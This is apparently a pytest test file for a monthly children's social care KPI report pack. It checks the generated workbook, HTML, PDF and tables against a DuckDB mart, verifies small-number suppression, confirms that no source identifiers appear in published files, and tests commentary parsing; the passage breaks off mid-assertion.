"""The monthly KPI pack (issue #5), end to end on generated demo data (24 months to December 2018,
5% of Birmingham's scale): `build_everything` with the month-partitioned pack asset, then every
published file is opened and checked against the mart: the workbook's numbers, suppression (`x`
where the denominator is below 5), no identifier from the source extracts anywhere, the HTML in
headless Chromium (every page, its chart, no console errors), a screenshot, and the PDF's pages.
"""

from __future__ import annotations

import csv
import json
import math
import os
import re
import struct
import tempfile
import zipfile
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace

import duckdb
import openpyxl
import pandas as pd
import pytest

from orchestration.report_pack.commentary import (
    Commentary,
    check_no_identifiers,
    parse_commentary,
)
from orchestration.report_pack.config import find_chromium
from orchestration.report_pack.errors import ReportPackError
from tests.conftest import _environment, failures, pack_tables

REPO = Path(__file__).resolve().parent.parent
MONTH = "2018-12"
# Every page of the reference report (OCG contract KPI report, December 2018) has its section, in
# this order: contents, the scorecard, headline rates, contacts, KPI 1-15, the two council business
# plan measures, qualitative evaluation of practice.
REFERENCE_PAGES = [
    "cover",
    "summary",
    "headline_rates",
    "contacts",
    *[f"kpi_{n:02d}" for n in range(1, 16)],
    "cbp_fte",
    "cbp_a1",
    "practice_evaluation",
]


def _pack_pages() -> list[str]:
    """The pack's pages in print order: the registry's pages and the seed's other pages (a KPI
    added to the registry with a page of its own is a page more than the reference report)."""
    from orchestration.registry import load_registry

    orders = {k.kpi_id: int(k.row["page_order"]) for k in load_registry() if k.row["page_order"]}
    with open(REPO / "seeds" / "report_pages.csv", newline="", encoding="utf-8") as handle:
        orders |= {row["page_id"]: int(row["page_order"]) for row in csv.DictReader(handle)}
    return sorted(orders, key=orders.get)


EXPECTED_PAGES = _pack_pages()
assert [p for p in EXPECTED_PAGES if p in REFERENCE_PAGES] == REFERENCE_PAGES
# Commentary for every page but KPI 7, whose page must show the placeholder.
COMMENTARY_TEXT = {
    page: f"Sample commentary for {page}: performance discussed by the service."
    for page in EXPECTED_PAGES
    if page not in ("cover", "kpi_07")
}
COMMENTARY_TEXT["kpi_01"] = "Referral decisions slowed over the holidays.\n\n- rota reviewed"


# --- the build ---------------------------------------------------------------------------------


def _job():
    """build_everything with the pack asset, whether or not the code location lists it yet."""
    import dagster as dg

    from orchestration import definitions
    from orchestration.assets.report_pack import KPI_PACK_KEY, kpi_pack

    defs = definitions.defs
    if KPI_PACK_KEY not in defs.resolve_asset_graph().get_all_asset_keys():
        defs = dg.Definitions.merge(defs, dg.Definitions(assets=[kpi_pack]))
    return defs.resolve_job_def(definitions.BUILD_JOB_NAME)


def _env(work: Path, source: Path, **extra: str):
    """The settings of the pack's build; `extra` adds to them or overrides them."""
    settings = {
        "CSC_SOURCE_DIR": str(source),
        "CSC_WAREHOUSE": str(work / "warehouse.duckdb"),
        "CSC_EXPORT_DIR": str(work / "exports"),
        "CSC_ANALYST_DB": str(work / "analyst.duckdb"),
        "CSC_RESTRICTED_DIR": str(work / "restricted"),
        "CSC_REPORT_MONTH": "",
        "CSC_COMMENTARY_DIR": "",
    }
    return _environment(**(settings | extra))


@pytest.fixture(scope="session")
def pack(tmp_path_factory) -> SimpleNamespace:
    import dagster as dg

    from demo_data import generate
    from orchestration.assets.report_pack import KPI_PACK_KEY, report_pack_summary
    from orchestration.prepare import prepare_dbt_manifest

    work = tmp_path_factory.mktemp("report_pack")
    source = work / "src"
    generate(source, scale=0.05, months=24, progress=False)
    (source / "commentary").mkdir()
    lines = []
    for page, text in COMMENTARY_TEXT.items():
        lines.append(f"{page}: |")
        lines += [f"  {line}" if line else "" for line in text.splitlines()]
    (source / "commentary" / f"{MONTH}.yaml").write_text("\n".join(lines) + "\n")
    with _env(work, source):
        prepare_dbt_manifest()
        with dg.DagsterInstance.ephemeral() as instance:
            result = _job().execute_in_process(
                instance=instance,
                raise_on_error=False,
                run_config={"loggers": {"console": {"config": {"log_level": "WARNING"}}}},
            )
            partitions = instance.get_materialized_partitions(KPI_PACK_KEY)
    assert result.success, failures(result)
    folder = work / "exports" / MONTH
    return SimpleNamespace(
        work=work,
        source=source,
        warehouse=work / "warehouse.duckdb",
        folder=folder,
        partitions=partitions,
        manifest=json.loads((folder / "manifest.json").read_text()),
        summary_lines=report_pack_summary(result),
    )


def _query(pack, sql: str, params=None) -> list[tuple]:
    con = duckdb.connect(str(pack.warehouse), read_only=True)
    try:
        return con.execute(sql, params or []).fetchall()
    finally:
        con.close()


def _kpi_value(pack, kpi_id: str, period_type: str) -> tuple[float, float, float]:
    rows = _query(
        pack,
        "select numerator, denominator, value from marts.kpi_values "
        "where kpi_id = ? and period_type = ? and period_end = date '2018-12-31'",
        [kpi_id, period_type],
    )
    assert len(rows) == 1, (kpi_id, period_type, rows)
    return rows[0]


# --- reading the published files ---------------------------------------------------------------


class _PackHtml(HTMLParser):
    """Sections of the pack: their table rows (cell texts), charts, commentary and placeholders."""

    def __init__(self):
        super().__init__()
        self.sections: dict[str, dict] = {}
        self._section: dict | None = None
        self._row: list[str] | None = None
        self._cell: list[str] | None = None
        self._in_chart = 0

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        classes = (attrs.get("class") or "").split()
        if tag == "section" and "page" in classes:
            self._section = {"rows": [], "charts": 0, "svg": 0, "text": [], "classes": set()}
            self.sections[attrs["id"]] = self._section
        if self._section is None:
            return
        self._section["classes"].update(classes)
        if tag == "figure" and "chart" in classes:
            self._section["charts"] += 1
            self._in_chart += 1
        if tag == "svg" and self._in_chart:
            self._section["svg"] += 1
        if tag == "tr":
            self._row = []
        if tag in ("td", "th") and self._row is not None:
            self._cell = []

    def handle_endtag(self, tag):
        if tag in ("td", "th") and self._cell is not None and self._row is not None:
            self._row.append(" ".join("".join(self._cell).split()))
            self._cell = None
        if tag == "tr" and self._row is not None and self._section is not None:
            self._section["rows"].append(self._row)
            self._row = None
        if tag == "figure" and self._in_chart:
            self._in_chart -= 1
        if tag == "section":
            self._section = None

    def handle_data(self, data):
        if self._cell is not None:
            self._cell.append(data)
        if self._section is not None:
            self._section["text"].append(data)


def parse_pack_html(text: str) -> dict[str, dict]:
    parser = _PackHtml()
    parser.feed(text)
    return parser.sections


def _pdf_pages(path: Path) -> list[str]:
    from pypdf import PdfReader

    return [page.extract_text() or "" for page in PdfReader(str(path)).pages]


def published_text(path: Path) -> str:
    """The text a reader (or a program) can get out of a published file."""
    suffix = path.suffix.lower()
    if suffix in (".csv", ".html", ".json", ".txt", ".svg"):
        return path.read_text(encoding="utf-8")
    if suffix == ".xlsx":
        # Everything but the theme and the styles, whose attribute values (a colour's
        # lumMod="100000") are Excel's, not text of the pack: a source id "100000" once matched.
        with zipfile.ZipFile(path) as archive:
            return "\n".join(
                archive.read(name).decode("utf-8", "replace")
                for name in archive.namelist()
                if name.endswith((".xml", ".rels"))
                and not name.startswith("xl/theme/")
                and name != "xl/styles.xml"
            )
    if suffix == ".parquet":
        return pd.read_parquet(path).to_csv(index=False)
    if suffix == ".pdf":
        return "\n".join(_pdf_pages(path))
    raise AssertionError(f"unexpected published file {path}")


# Whole tokens only, and not the digits after a decimal point (0.001234 holds no id 001234).
_TOKEN = re.compile(r"(?<![\w.])[\w-]+")


def tokens(text: str) -> set[str]:
    return set(_TOKEN.findall(text))


def source_identifiers(source: Path) -> set[str]:
    ids: set[str] = set()
    for path in source.glob("*.csv"):
        with path.open(newline="", encoding="utf-8") as handle:
            reader = csv.DictReader(handle)
            columns = [
                c for c in reader.fieldnames or [] if c.endswith("_id") or "registration" in c
            ]
            for row in reader:
                ids.update(row[c] for c in columns if row[c])
    return ids


def _under_ci() -> bool:
    """CI runners set CI=true; there the browser checks must run."""
    return os.environ.get("CI", "").strip().lower() in {"true", "1", "yes"}


def _chromium_or_skip() -> str:
    """Chromium for the browser checks. On a developer machine without it they skip, saying so;
    under CI=true a missing browser fails them: CI must not go green with no browser check."""
    chromium = find_chromium()
    if chromium:
        return chromium
    if _under_ci():
        pytest.fail(
            "Chromium is not installed (CI=true): the report pack's HTML, screenshot and PDF "
            "checks need it. Install Debian's chromium (make test tries apt-get install "
            "chromium) or point CSC_CHROMIUM at a Chromium or Chrome.",
            pytrace=False,
        )
    pytest.skip(
        "Chromium is not installed and could not be installed (make test tries apt-get "
        "install chromium): the HTML checks in a browser did not run (under CI=true this "
        "is a failure)"
    )


def _chromium(chromium: str, args: list[str], url: str):
    from orchestration.report_pack.pdf import run_chromium

    return run_chromium(["--enable-logging=stderr", "--v=0", *args], url, chromium, timeout=90)


def _console_messages(stderr: str) -> list[str]:
    return [line for line in stderr.splitlines() if ":CONSOLE" in line]


# --- the build and its files -------------------------------------------------------------------


def test_build_everything_writes_the_pack_of_the_latest_complete_month(pack):
    latest = _query(
        pack, "select report_month from reporting.rpt_report_months where is_latest_complete"
    )
    assert latest == [(MONTH,)]
    for name in ("kpi_pack.xlsx", "kpi_pack.html", "manifest.json"):
        assert (pack.folder / name).stat().st_size > 0, name
    if find_chromium():
        assert (pack.folder / "kpi_pack.pdf").stat().st_size > 0
    else:  # the PDF checks below skip, saying why; the pack says it has no PDF
        assert any(w.startswith("no PDF") for w in pack.manifest["warnings"])
    tables = {p.stem for p in (pack.folder / "tables").glob("*.csv")}
    parquet = {p.stem for p in (pack.folder / "tables").glob("*.parquet")}
    # Every page's table as the registry lists them, the scorecard and trends, the month's
    # breakdowns (team tables and the characteristics page) and the revisions (tests/conftest.py).
    expected = pack_tables(pack.warehouse)
    assert {"rpt_kpi_pages", "rpt_kpi_breakdowns", "kpi_revisions"} <= expected
    assert tables == expected and parquet == expected
    # The run had no partition key; the month it wrote is recorded as the asset's partition.
    assert MONTH in pack.partitions
    assert pack.manifest["month"] == MONTH
    listed = {f["path"] for f in pack.manifest["files"]}
    assert {"kpi_pack.xlsx", "kpi_pack.html", "tables/rpt_kpi_pages.csv"} <= listed
    assert pack.manifest["pages_without_commentary"] == ["kpi_07"]
    # make run's summary names the folder and the files.
    summary = "\n".join(pack.summary_lines)
    assert f"KPI pack for {MONTH}: {pack.folder}" in summary
    assert str(pack.folder / "kpi_pack.html") in summary and "pages without: kpi_07" in summary
    # No partial folder is left behind.
    assert [p.name for p in pack.folder.parent.iterdir()] == [MONTH]


def test_every_page_of_the_reference_report_has_its_counterpart(pack):
    sections = parse_pack_html((pack.folder / "kpi_pack.html").read_text())
    assert list(sections) == EXPECTED_PAGES
    workbook = openpyxl.load_workbook(pack.folder / "kpi_pack.xlsx")
    reference_sheets = [
        "Summary",
        "Headline rates",
        "Contacts",
        *[f"KPI {n}" for n in range(1, 16)],
        "CBP FTE",
        "CBP A1",
        "Practice evaluation",
    ]
    # A sheet per page but the contents (the scorecard's is "Summary"), the reference report's
    # in its order.
    assert len(workbook.sheetnames) == len(EXPECTED_PAGES) - 1
    assert [n for n in workbook.sheetnames if n in reference_sheets] == reference_sheets
    # Every KPI page (KPI 1-15, the council business plan measures, any the registry adds) is
    # on the scorecard, by id.
    summary_ids = {
        row[0]
        for row in _query(pack, "select distinct kpi_id from reporting.rpt_scorecard_summary")
    }
    pages = _query(
        pack, "select kpi_id from reporting.rpt_report_pages where page_kind in ('kpi', 'cbp')"
    )
    assert summary_ids == {row[0] for row in pages}
    assert {f"kpi_{n:02d}" for n in range(1, 16)} | {"cbp_fte", "cbp_a1"} <= summary_ids


def test_every_page_has_its_figures_for_the_month(pack):
    # The pack's demo data hold 24 months of activity to December 2018 with 24 months of history
    # before them (from January 2015) and 10 years of youth justice outcomes, so every window
    # of December 2018 is covered, look-backs included: kpi_06's 2 years before January 2018
    # (January 2016), cbp_a1's 3 years (from January 2016), cbp_fte's 8 years (2010). No page
    # is "not available" (tests/test_coverage.py builds folders where some are).
    missing = _query(
        pack,
        "select kpi_id from reporting.rpt_scorecard_summary "
        "where availability = 'not_available' and period_end = date '2018-12-31'",
    )
    assert missing == []
    html = (pack.folder / "kpi_pack.html").read_text()
    assert "Not available from the loaded sources" not in html


# --- the workbook against the mart -------------------------------------------------------------


def _sheet_rows(sheet) -> dict[str, list]:
    """Each row by its first cell, without the empty cells after its last figure (the table by
    team below a KPI's table makes the sheet wider than that table)."""
    rows = {}
    for row in sheet.iter_rows(values_only=True):
        if row and row[0]:
            cells = list(row[1:])
            while cells and cells[-1] is None:
                cells.pop()
            rows[row[0]] = cells
    return rows


def test_workbook_numbers_match_the_mart(pack):
    workbook = openpyxl.load_workbook(pack.folder / "kpi_pack.xlsx")
    summary = workbook["Summary"]
    assert summary.freeze_panes == "C4"
    assert summary.column_dimensions["B"].width > 30
    headings = [c.value for c in summary[3]]
    value_col = headings.index("Dec-18") + 1
    target_col = headings.index("Target") + 1
    scorecard = {
        row[0]: row[1:]
        for row in _query(
            pack,
            "select kpi_id, value, denominator, target, tolerance_low, status "
            "from marts.kpi_scorecard where period_end = date '2018-12-31'",
        )
    }
    pages = dict(
        _query(
            pack,
            "select page_label, kpi_id from reporting.rpt_report_pages where kpi_id is not null",
        )
    )
    checked = 0
    for r in range(4, summary.max_row + 1):
        label = summary.cell(r, 1).value
        if label not in pages or pages[label] not in scorecard:
            continue
        value, denominator, target, tolerance_low, status = scorecard[pages[label]]
        cell = summary.cell(r, value_col)
        if denominator is not None and denominator < 5:
            assert cell.value == "x", label
        elif value is None:
            assert cell.value == "–", label
        else:
            assert cell.value == pytest.approx(value, rel=1e-9), label
            assert cell.number_format != "General"
            checked += 1
        if target is not None:
            assert summary.cell(r, target_col).value == pytest.approx(target)
        status_cell = summary.cell(r, headings.index("Status") + 1)
        if status and cell.value not in ("x", "–"):
            assert status_cell.value.lower().startswith(status)
            assert status_cell.fill.fgColor.rgb.endswith(
                {"green": "C6EFCE", "amber": "FFEB9C", "red": "FFC7CE"}[status]
            )
    assert checked >= 12

    # KPI 1: numerator, denominator and % for the month, as in marts.kpi_values.
    numerator, denominator, value = _kpi_value(pack, "kpi_01", "month")
    sheet = workbook["KPI 1"]
    rows = _sheet_rows(sheet)
    assert rows["Referrals with a decision within 24 hours"][-1] == numerator
    assert rows["Total referrals authorised"][-1] == denominator
    assert rows["% of all referrals with a decision within 24 hours"][-1] == pytest.approx(value)
    assert sheet.freeze_panes == "A6"
    percent_row = next(r for r in sheet.iter_rows() if r[0].value and r[0].value.startswith("% of"))
    assert percent_row[2].number_format == '#,##0"%"'  # stored 0-100, shown as 77%
    count_row = next(r for r in sheet.iter_rows() if r[0].value == "Total referrals authorised")
    assert count_row[2].number_format == "#,##0"
    # KPI 3: inside, outside (= total - inside), total.
    numerator, denominator, value = _kpi_value(pack, "kpi_03", "month")
    rows = _sheet_rows(workbook["KPI 3"])
    assert rows["No. inside"][-1] == numerator
    assert rows["No. outside"][-1] == denominator - numerator
    assert rows["Total"][-1] == denominator
    assert rows["% inside"][-1] == pytest.approx(value)
    # Contacts: the month's count and the previous 12 months' average.
    contacts = _query(
        pack,
        "select value from marts.kpi_values where kpi_id = 'contacts' and period_type = 'month' "
        "and period_end between date '2017-12-01' and date '2018-12-31' order by period_end",
    )
    assert len(contacts) == 13
    row = _sheet_rows(workbook["Contacts"])["No of contacts"]
    assert row[-1] == contacts[-1][0]
    assert row[0] == pytest.approx(sum(v for (v,) in contacts[:-1]) / 12)


# --- suppression -------------------------------------------------------------------------------


def test_suppressed_figures_read_x_in_every_published_file(pack):
    # In this data, kpi_12_tm (agency team managers) rests on fewer than 5 FTE in December: the
    # KPI 12 page's team-manager row must read x for the month wherever it is published.
    numerator, denominator, value = _kpi_value(pack, "kpi_12_tm", "snapshot")
    assert denominator < 5, "the fixture no longer has a figure to suppress; pick another"
    shown = f"{value:.0f}%"
    label = "% agency team managers"

    sheet = _sheet_rows(openpyxl.load_workbook(pack.folder / "kpi_pack.xlsx")["KPI 12"])
    assert sheet[label][-1] == "x"

    table = pd.read_csv(pack.folder / "tables" / "rpt_kpi_12.csv", dtype=str)
    row = table[table["measure"] == label].iloc[0]
    assert row["month_value"] == "x" and row["month_suppressed"] == "True"
    parquet = pd.read_parquet(pack.folder / "tables" / "rpt_kpi_12.parquet")
    row = parquet[parquet["measure"] == label].iloc[0]
    assert pd.isna(row["month_value"]) and bool(row["month_suppressed"])

    sections = parse_pack_html((pack.folder / "kpi_pack.html").read_text())
    html_row = next(r for r in sections["kpi_12"]["rows"] if r[0] == label)
    assert html_row[-1] == "x"

    if (pack.folder / "kpi_pack.pdf").exists():
        pdf_page = _pdf_pages(pack.folder / "kpi_pack.pdf")[EXPECTED_PAGES.index("kpi_12")]
        pdf_line = next(line for line in pdf_page.splitlines() if line.startswith(label))
        assert pdf_line.split()[-1] == "x" and not pdf_line.endswith(shown)

    # Every published table: a flagged cell reads x in the CSV and is null in the Parquet, and
    # no figure resting on a denominator below 5 is shown anywhere.
    flagged = 0
    for csv_path in (pack.folder / "tables").glob("*.csv"):
        text_frame = pd.read_csv(csv_path, dtype=str, keep_default_na=False)
        typed = pd.read_parquet(csv_path.with_suffix(".parquet"))
        for flag in [c for c in typed.columns if c == "suppressed" or c.endswith("_suppressed")]:
            target = "value" if flag == "suppressed" else flag.removesuffix("_suppressed")
            target = f"{target}_value" if f"{target}_value" in typed.columns else target
            mask = typed[flag].astype(bool)
            flagged += int(mask.sum())
            assert (text_frame.loc[mask.values, target] == "x").all(), (csv_path.name, flag)
            assert typed.loc[mask, target].isna().all(), (csv_path.name, flag)
    assert flagged >= 1
    # Every figure whose unsuppressed denominator (in the mart) is below 5 is suppressed in the
    # report table; checked against kpi_values, since suppression nulls the report's own
    # denominator.
    small = _query(
        pack,
        "select v.kpi_id, v.period_type from marts.kpi_values v "
        "join reporting.rpt_kpi_figures r using (kpi_id, period_end, period_type) "
        "where v.period_end = date '2018-12-31' and v.denominator < 5 and not r.suppressed",
    )
    assert small == []


# --- breakdowns and revisions ------------------------------------------------------------------


def test_every_kpi_page_with_a_team_breakdown_has_its_table_by_team(pack):
    # The demo assigns referrals, assessments and allocations to teams: every KPI page whose KPI
    # has team figures for December prints them, one row per team, in member order; a KPI
    # without a team breakdown (the registry's breakdowns) has no such table.
    sections = parse_pack_html((pack.folder / "kpi_pack.html").read_text())
    teams = {
        kpi: [m for m, in members]
        for kpi, members in (
            (kpi, _query(
                pack,
                "select member from reporting.rpt_kpi_breakdowns where kpi_id = ? and "
                "dimension = 'team' and period_end = date '2018-12-31' "
                "order by member_order, member",
                [kpi],
            ))
            for (kpi,) in _query(
                pack, "select kpi_id from reporting.rpt_report_pages where kpi_id is not null"
            )
        )
    }  # fmt: skip
    from orchestration.registry import load_registry
    from orchestration.report_pack.workbook import sheet_name

    without = {k.kpi_id for k in load_registry() if "team" not in k.breakdowns}
    assert {kpi for kpi, members in teams.items() if not members} >= without & set(teams)
    html = (pack.folder / "kpi_pack.html").read_text()
    workbook = openpyxl.load_workbook(pack.folder / "kpi_pack.xlsx")
    pages = dict(_query(pack, "select kpi_id, page_label from reporting.rpt_report_pages"))
    for kpi, members in teams.items():
        has_table = f'data-teams-for="{kpi}"' in html
        assert has_table == bool(members), kpi
        if not members:
            continue
        shown = [r[0] for r in sections[kpi]["rows"] if r and r[0] in {
            m[:1].upper() + m[1:] for m in members}]  # fmt: skip
        assert shown == [m[:1].upper() + m[1:] for m in members], kpi
        name = sheet_name(SimpleNamespace(page_id=kpi, page_label=pages[kpi]))
        sheet = [r[0] for r in workbook[name].iter_rows(values_only=True)]
        assert any(str(v).startswith("By team") for v in sheet), kpi
    # The demo has team figures: the loop above did check tables.
    assert any(teams.values())
    assert "characteristics" in sections and "landscape" in sections["characteristics"]["classes"]
    # Secondary suppression over the demo's many tables: no table (KPI, window, dimension) has
    # exactly one suppressed cell beside cells shown, which the total less the shown cells
    # would give away (a table of one member is the total, suppressed as the total is).
    table = pd.read_csv(pack.folder / "tables" / "rpt_kpi_breakdowns.csv", dtype=str)
    per_table = (
        table.assign(suppressed=table["suppression"].notna())
        .groupby(["kpi_id", "period_type", "dimension"])["suppressed"]
        .agg(members="size", suppressed="sum")
    )
    lone = per_table[(per_table["suppressed"] == 1) & (per_table["members"] > 1)]
    assert lone.empty, lone
    # One publication: nothing has been revised yet.
    assert 'data-revisions="none"' in html and 'class="revised"' not in html


# --- no identifiers ----------------------------------------------------------------------------


def test_no_identifier_from_the_extracts_in_any_published_file(pack):
    ids = source_identifiers(pack.source)
    assert len(ids) > 1000
    # The check can fail: a planted person id is found.
    planted = next(iter(sorted(ids)))
    assert planted in tokens(f"a row for {planted}, 12.5%")
    files = [p for p in pack.folder.rglob("*") if p.is_file()]
    # The scan covers the workbook, HTML, manifest (and the PDF when Chromium is there) and
    # every report table twice (CSV and Parquet).
    tables = pack_tables(pack.warehouse)
    assert len(tables) >= 5
    for suffix in (".csv", ".parquet"):
        assert {p.stem for p in files if p.suffix == suffix} == tables
    assert {"kpi_pack.xlsx", "kpi_pack.html", "manifest.json"} <= {p.name for p in files}
    for path in files:
        found = tokens(published_text(path)) & ids
        assert not found, f"{path.relative_to(pack.folder)} holds identifiers {sorted(found)[:5]}"


# --- the HTML in headless Chromium, screenshot, PDF ----------------------------------------------


def test_html_is_self_contained(pack):
    text = (pack.folder / "kpi_pack.html").read_text()
    assert "<script" not in text.lower()
    assert not re.search(r"""(?:src|href)\s*=\s*["']?(?:https?:)?//""", text, re.I)
    assert not re.search(r"url\(\s*['\"]?(?:https?:)?//", text, re.I)
    assert "<link" not in text.lower()


def test_html_in_headless_chromium_has_every_page_and_chart_and_no_console_errors(pack):
    chromium = _chromium_or_skip()
    # The console check can fail: a page with an error is caught.
    with tempfile.TemporaryDirectory() as folder:
        broken = Path(folder) / "broken.html"
        broken.write_text(
            "<html><body><script>console.error('seen'); nope();</script></body></html>"
        )
        result = _chromium(chromium, ["--dump-dom"], broken.as_uri())
        assert len(_console_messages(result.stderr)) == 2, result.stderr[-2000:]

    result = _chromium(chromium, ["--dump-dom"], (pack.folder / "kpi_pack.html").as_uri())
    assert result.returncode == 0, result.stderr[-2000:]
    assert _console_messages(result.stderr) == []
    sections = parse_pack_html(result.stdout)
    assert list(sections) == EXPECTED_PAGES
    with_figures = {
        row[0]
        for row in _query(
            pack,
            "select page_id from reporting.rpt_kpi_trends where value is not null "
            "and period_end = date '2018-12-31'",
        )
    }
    assert {"contacts", "kpi_01", "kpi_12"} <= with_figures
    not_available = {
        row[0]
        for row in _query(
            pack,
            "select page_id from reporting.rpt_scorecard_summary "
            "where availability = 'not_available' and period_end = date '2018-12-31'",
        )
    }
    for page in EXPECTED_PAGES:
        section = sections[page]
        text = " ".join(section["text"])
        if page in with_figures:
            assert section["charts"] == 1 and section["svg"] == 1, page
        if page in ("contacts", "cbp_fte", "cbp_a1") or page.startswith("kpi_"):
            # a header and at least one row, unless the page says the KPI is not in the mart
            assert len(section["rows"]) >= 2 or page in not_available, page
        if page.startswith(("kpi_", "cbp_")):
            assert "Good =" in text and "Target" in text and "Tolerance" in text, page
    # Status badge, target line and tolerance band on KPI 1's page.
    kpi_01 = " ".join(sections["kpi_01"]["text"])
    assert re.search(r"\b(Green|Amber|Red)\b", kpi_01)
    assert "Target 85%" in kpi_01 and "Tolerance 75–95%" in kpi_01
    assert sum(1 for m in ("Dec-17", "Jun-18", "Dec-18") if m in kpi_01) == 3
    # Benchmarks beside KPI 2, commentary as written, the placeholder where there is none.
    assert "National average" in " ".join(sections["kpi_02"]["text"])
    assert "Referral decisions slowed over the holidays." in kpi_01
    assert "commentary-missing" in sections["kpi_07"]["classes"]
    assert "commentary-missing" not in sections["kpi_08"]["classes"]


def _png_size(path: Path) -> tuple[int, int]:
    header = path.read_bytes()[:24]
    assert header[:8] == b"\x89PNG\r\n\x1a\n"
    return struct.unpack(">II", header[16:24])


def test_screenshot_of_the_pack(pack, tmp_path):
    chromium = _chromium_or_skip()
    from orchestration.report_pack.pdf import screenshot

    shot = screenshot(pack.folder / "kpi_pack.html", tmp_path / "pack.png", chromium=chromium)
    assert _png_size(shot) == (1280, 2000)
    assert shot.stat().st_size > 60_000  # a rendered page, not a blank one
    page = screenshot(
        pack.folder / "kpi_pack.html", tmp_path / "kpi_01.png", "kpi_01", (1280, 1400), chromium
    )
    assert _png_size(page) == (1280, 1400)


def test_pdf_has_one_a4_page_per_section(pack):
    _chromium_or_skip()
    from pypdf import PdfReader

    reader = PdfReader(str(pack.folder / "kpi_pack.pdf"))
    assert len(reader.pages) == len(EXPECTED_PAGES)
    width, height = (float(v) for v in reader.pages[0].mediabox[2:])
    assert math.isclose(width, 595.92, abs_tol=2) and math.isclose(height, 842.88, abs_tol=2)
    texts = [page.extract_text() for page in reader.pages]
    assert "Performance Indicator 1".upper() in texts[EXPECTED_PAGES.index("kpi_01")].upper()
    assert "Qualitative Evaluation" in texts[-1]


# --- partitions: any past month, a month outside the data --------------------------------------


def test_a_past_month_is_built_from_its_partition(pack, tmp_path):
    import dagster as dg

    from orchestration.assets.report_pack import kpi_pack
    from orchestration.pipeline_settings import PipelineSettings
    from orchestration.warehouse import WarehouseResource

    settings = PipelineSettings()
    resources = {"settings": settings, "warehouse": WarehouseResource(settings=settings)}
    # Its own export folder: the session's pack folder holds December's pack only, whatever
    # order the tests run in (test_build_everything_writes_the_pack_... checks that).
    exports = tmp_path / "exports"
    with _env(pack.work, pack.source, CSC_EXPORT_DIR=str(exports)):
        result = dg.materialize([kpi_pack], partition_key="2018-06", resources=resources)
        assert result.success
        manifest = json.loads((exports / "2018-06" / "manifest.json").read_text())
        assert manifest["month"] == "2018-06"
        # No commentary file for June: every page shows the placeholder.
        html = (exports / "2018-06" / "kpi_pack.html").read_text()
        assert html.count('class="commentary-missing"') == len(EXPECTED_PAGES) - 1
        # A month before the first any KPI is published for (the demo's youth justice history
        # makes kpi_11's cohorts the first, in 2011) fails, naming the months there are.
        first, last = _query(
            pack,
            "select min(report_month), max(report_month) from reporting.rpt_report_months "
            "where is_complete",
        )[0]
        assert first.startswith("2011") and last == "2018-12"
        failed = dg.materialize(
            [kpi_pack],
            partition_key="2010-12",
            resources=resources,
            raise_on_error=False,
        )
        assert not failed.success
        message = failures(failed)[0]
        assert "no data for 2010-12" in message and f"{first} to 2018-12" in message


# --- commentary --------------------------------------------------------------------------------

KNOWN = set(EXPECTED_PAGES) - {"cover"}


def test_commentary_unknown_id_fails_naming_file_and_line(tmp_path):
    path = tmp_path / "2018-12.yaml"
    path.write_text("kpi_01: fine\n\nkpi_16: |\n  no such KPI\n")
    with pytest.raises(ReportPackError, match=r"2018-12\.yaml, line 3: unknown KPI id 'kpi_16'"):
        parse_commentary(path, KNOWN)


def test_commentary_malformed_yaml_fails_naming_file_and_line(tmp_path):
    path = tmp_path / "2018-12.yaml"
    path.write_text("kpi_01: fine\nkpi_02: [unclosed\nkpi_03: x\n")
    with pytest.raises(ReportPackError, match=r"2018-12\.yaml, line \d+: not valid YAML"):
        parse_commentary(path, KNOWN)
    path.write_text("- kpi_01\n- kpi_02\n")
    with pytest.raises(ReportPackError, match=r"line 1: expected one entry per KPI id"):
        parse_commentary(path, KNOWN)
    path.write_text("kpi_01: one\nkpi_02: two\nkpi_01: again\n")
    with pytest.raises(ReportPackError, match=r"line 3: kpi_01 appears twice \(first at line 1\)"):
        parse_commentary(path, KNOWN)
    path.write_text("kpi_01:\nkpi_02: two\n")
    with pytest.raises(ReportPackError, match=r"line 1: the commentary for kpi_01 must be text"):
        parse_commentary(path, KNOWN)


def test_commentary_with_a_record_identifier_is_refused(tmp_path):
    path = tmp_path / "2018-12.yaml"
    path.write_text("kpi_01: |\n  Fine in 2018.\nkpi_02: |\n  See child 004521 for details.\n")
    texts, lines = parse_commentary(path, KNOWN)
    commentary = Commentary(month=MONTH, path=path, searched=[tmp_path], texts=texts, lines=lines)
    with pytest.raises(ReportPackError, match=r"line 3: the commentary for kpi_02 contains 004521"):
        check_no_identifiers(commentary, lambda found: found & {"004521"})
    check_no_identifiers(commentary, lambda found: found & {"999999"})


def test_a_real_identifier_in_the_commentary_stops_the_pack(hand_fixture_warehouse, tmp_path):
    # The guard above with the real look-up, not a stub: the kpi_pack asset for March 2018 on a
    # copy of the hand fixture's warehouse, its commentary naming SW100003, the social worker
    # registration number of W3 in tests/fixtures/hand_small/ssd_professionals.csv (the guard
    # looks at tokens of 5 characters or more with a digit, and the fixture's person and record
    # ids are shorter). The pack stops before writing anything, naming the file, line and page
    # (and the identifier, so that its author can find it: the message goes to the run's log,
    # never into a published file).
    import shutil

    import dagster as dg

    from orchestration.assets.report_pack import kpi_pack
    from tests.conftest import FIXTURES

    work = tmp_path / "work"
    work.mkdir()
    shutil.copy(hand_fixture_warehouse, work / "warehouse.duckdb")
    folder = tmp_path / "commentary"
    folder.mkdir()
    path = folder / "2018-03.yaml"
    path.write_text(
        "kpi_08: |\n  Reviews on time fell in March.\n\nkpi_14: |\n  Cases moved from SW100003.\n"
    )
    settings = {
        "CSC_SOURCE_DIR": str(FIXTURES / "hand_small"),
        "CSC_WAREHOUSE": str(work / "warehouse.duckdb"),
        "CSC_EXPORT_DIR": str(work / "exports"),
        "CSC_ANALYST_DB": str(work / "analyst.duckdb"),
        "CSC_RESTRICTED_DIR": str(work / "restricted"),
        "CSC_REPORT_MONTH": "",
        "CSC_COMMENTARY_DIR": str(folder),
        # No PDF: the guard runs before any file is written, and the browser is tested above.
        "CSC_CHROMIUM": str(tmp_path / "no-chromium"),
    }

    def materialize():
        from orchestration.pipeline_settings import PipelineSettings
        from orchestration.warehouse import WarehouseResource

        pipeline = PipelineSettings()
        return dg.materialize(
            [kpi_pack],
            partition_key="2018-03",
            resources={"settings": pipeline, "warehouse": WarehouseResource(settings=pipeline)},
            raise_on_error=False,
        )

    with _environment(**settings):
        stopped = materialize()
        assert not stopped.success
        (message,) = failures(stopped)
        assert message.startswith("exports__kpi_pack: ")
        assert (
            f"{path}, line 4: the commentary for kpi_14 contains SW100003, an identifier from "
            "the source extracts; published files must not identify a child or a record"
